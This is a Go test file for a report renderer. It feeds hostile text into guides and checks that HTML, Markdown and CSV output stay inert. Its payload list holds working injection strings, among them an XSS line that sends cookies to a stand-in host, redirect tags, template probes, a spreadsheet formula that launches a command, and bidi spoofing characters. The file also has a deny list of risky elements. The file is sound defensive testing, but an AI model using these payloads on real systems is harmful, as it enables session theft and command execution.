package report

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"
	"golang.org/x/net/html"

	"github.com/levelica/levelica/internal/guide"
)

// payloads are texts that have made other programs run, load or show something. A guide is
// somebody else's text, so each of them stands in every place where a guide's words go.
var payloads = []string{
	`<script>fetch("https://evil.example/"+document.cookie)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`' onmouseover='alert(1)`,
	"` onfocus=alert(1) autofocus=`",
	`<svg/onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>`,
	`</title></style></desc><script>alert(1)</script>`,
	`</style><style>*{background:url(https://evil.example/)}`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<base href="https://evil.example/"><form action=/><meta http-equiv=refresh content="0;url=//evil.example">`,
	`{{.Person}} {{template "svg"}} ${7*7} #{7*7} <%= 7*7 %>`,
	`[click](javascript:alert(1)) ![x](https://evil.example/x.png)`,
	`https://evil.example/ www.evil.example evil@evil.example mailto:evil@evil.example http://evil.example`,
	`<https://evil.example> &lt;script&gt; &#60;script&#62; &copy;`,
	"# heading", "+ list", "- list", "* list", "1. list", "2) list", "> quote", "---", "===", "***", "~~~", "```", "    code",
	"**bold** __bold__ *em* _em_ ~~gone~~ `code` |a|b| $x^2$ [^1] [x]: y", "[ ] task", "- [x] task", "a  \nb\n\n# c", "\\", "\\\\`",
	`=HYPERLINK("https://evil.example/?"&A1,"x")`, `+1+cmd|' /C calc'!A0`, `-2+3`, "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1",
	"\u202Egnp.exe", "a\x00b\x1b[31mred\x07", "\u2066\u202Ex", "bad \xff\xfe utf-8", "\uFEFFbom", "zero\u200Bwidth\u200Djoin",
	"Łódź Ωμέγα Жук Ấn 한글 漢字 עברית العربية 👩🏽‍💻 ⚙️ e\u0301 🇰🇷 \U0010FFFF \uFFFF",
	strings.Repeat("W", 800), strings.Repeat("가", 300), strings.Repeat("👍", 100), strings.Repeat("a ", 500), "", " ", "\u3000",
}

// hostileGuide has a payload in every place where a guide has words.
func hostileGuide(payload string) *guide.Guide {
	g := sample("backend-engineering", "Backend Engineering")
	g.Title, g.Tagline, g.Overview, g.Emoji = payload, payload, payload, payload
	g.Strands = slices.Clone(g.Strands)
	for i := range g.Strands {
		g.Strands[i].Name = payload
	}
	for l := range g.Levels {
		g.Levels[l].Title, g.Levels[l].Next, g.Levels[l].Description = payload, payload, payload
		for i := range g.Levels[l].Items {
			g.Levels[l].Items[i].Text = payload
		}
	}
	return g
}

// hostileWith has a payload in every text; two guides, because with several there is more to show.
func hostileWith(payload string) *Document {
	g := hostileGuide(payload)
	marks := backend().Marks
	return New([]Subject{{Guide: g, Marks: marks}, {Guide: g}}, Options{Person: payload, At: sampleTime, Items: true, Open: true, Strands: true}, english)
}

// hostileDocument has all payloads at once.
func hostileDocument() *Document { return hostileWith(strings.Join(payloads, " ")) }

func TestHostileTextsAddNothingToThePage(t *testing.T) {
	want := htmlSkeleton(t, render(t, hostileWith("harmless"), HTML))
	for _, payload := range append(payloads, strings.Join(payloads, "\n")) {
		if strings.Trim(clean(payload), " \u3000") == "" {
			continue // an empty text leaves its element out
		}
		got := htmlSkeleton(t, render(t, hostileWith(payload), HTML))
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%.80q changes the page, -harmless +hostile:\n%.2000s", payload, diff)
		}
	}
}

func TestThePageRunsAndLoadsNothing(t *testing.T) {
	for _, element := range htmlSkeleton(t, render(t, hostileDocument(), HTML)) {
		name, attributes, _ := strings.Cut(element, " ")
		if name == "text:" {
			continue // our own style sheet, which the test above compares
		}
		if slices.Contains([]string{"script", "img", "iframe", "object", "embed", "link", "base", "form", "a", "use", "image"}, name) {
			t.Errorf("the page has %s", element)
		}
		for attribute := range strings.FieldsSeq(attributes) {
			if strings.HasPrefix(attribute, "on") || slices.Contains([]string{"src", "href", "xlink:href", "style", "srcdoc", "action"}, attribute) {
				t.Errorf("the page has %s", element)
			}
		}
	}
}

func FuzzAnyTextAddsNothingToAReport(f *testing.F) {
	for _, payload := range payloads {
		f.Add(payload)
	}
	page := htmlSkeleton(f, render(f, hostileWith("harmless"), HTML))
	sheet := markdownSkeleton(render(f, hostileWith("harmless"), Markdown))
	f.Fuzz(func(t *testing.T, text string) {
		if strings.TrimSpace(clean(text)) == "" {
			return // an empty text leaves its element out
		}
		d := hostileWith(text)
		if diff := cmp.Diff(page, htmlSkeleton(t, render(t, d, HTML))); diff != "" {
			t.Errorf("%.80q changes the page, -harmless +hostile:\n%.2000s", text, diff)
		}
		if diff := cmp.Diff(sheet, markdownSkeleton(render(t, d, Markdown))); diff != "" {
			t.Errorf("%.80q changes the Markdown, -harmless +hostile:\n%.2000s", text, diff)
		}
		cells, err := csv.NewReader(bytes.NewReader(render(t, d, CSV))).ReadAll()
		if err != nil {
			t.Errorf("%.80q: the CSV cannot be read: %v", text, err)
		}
		for _, row := range cells {
			for _, cell := range row {
				if cell != inertCell(cell) {
					t.Errorf("%.80q: the cell %.80q is a formula", text, cell)
				}
			}
		}
	})
}

const chartLabel = "text class x y"

// htmlSkeleton lists the elements of a page with the names of their attributes, and the whole text
// of its style sheet.
func htmlSkeleton(t testing.TB, page []byte) []string {
	t.Helper()
	root, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var elements []string
	for n := range root.Descendants() {
		switch {
		case n.Type == html.CommentNode:
			elements = append(elements, "comment")
		case n.Type == html.TextNode && n.Parent.Data == "style":
			elements = append(elements, "text: "+n.Data)
		case n.Type == html.ElementNode:
			element := n.Data
			for _, a := range n.Attr {
				element += " " + a.Key
			}
			// A chart breaks a name into as many lines as it needs: a run of its labels counts once,
			// as long as they have nothing but their place.
			if element = strings.TrimSuffix(element, " text-anchor"); element == chartLabel && elements[len(elements)-1] == chartLabel {
				continue
			}
			elements = append(elements, element)
		}
	}
	return elements
}

func TestHostileTextsAddNothingToTheMarkdown(t *testing.T) {
	want := markdownSkeleton(render(t, hostileWith("harmless"), Markdown))
	for _, payload := range append(payloads, strings.Join(payloads, "\n")) {
		if strings.Trim(clean(payload), " \u3000") == "" {
			continue // an empty text leaves its paragraph out
		}
		got := markdownSkeleton(render(t, hostileWith(payload), Markdown))
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%.80q changes the Markdown, -harmless +hostile:\n%.2000s", payload, diff)
		}
	}
}

// markdownSkeleton lists the nodes that GitHub's Markdown reads, but for runs of text.
func markdownSkeleton(source []byte) []string {
	parser := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote)).Parser()
	var nodes []string
	_ = ast.Walk(parser.Parse(text.NewReader(source)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if entering && n.Kind() != ast.KindText && n.Kind() != ast.KindString {
			nodes = append(nodes, n.Kind().String())
		}
		return ast.WalkContinue, nil
	})
	return nodes
}

func TestMarkdownShowsTheTextsAsTheyAre(t *testing.T) {
	for _, payload := range payloads {
		payload = clean(payload)
		var out bytes.Buffer
		if err := goldmark.New(goldmark.WithExtensions(extension.GFM)).Convert([]byte(escape(payload)), &out); err != nil {
			t.Fatal(err)
		}
		root, err := html.Parse(&out)
		if err != nil {
			t.Fatal(err)
		}
		shown := ""
		for n := range root.Descendants() {
			if n.Type == html.TextNode {
				shown += n.Data
			}
		}
		if strings.TrimSpace(shown) != strings.TrimSpace(payload) {
			t.Errorf("%.80q is shown as %.80q", payload, shown)
		}
	}
}

func TestHostileTextsDoNotStopAnyFormat(t *testing.T) {
	for _, payload := range payloads {
		d := hostileWith(payload)
		for _, f := range writable(d) {
			render(t, d, f)
		}
		d.Guides = d.Guides[:1]
		render(t, d, Badge)
	}
}

func TestNoTextTurnsTheWritingAround(t *testing.T) {
	d := hostileWith("a\u202Eb\u2066c\u2069d\u202C\x1b[2J\u2028e\x00f")
	for _, f := range []Format{HTML, Markdown, CSV, JSON} {
		text := string(render(t, d, f))
		if strings.ContainsAny(text, "\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u2028\x1b\x00") {
			t.Errorf("%s holds a character that changes what is around it", f.Name())
		}
		if !strings.Contains(text, "abcd[2J ef") {
			t.Errorf("%s lost letters with the marks", f.Name())
		}
	}
}
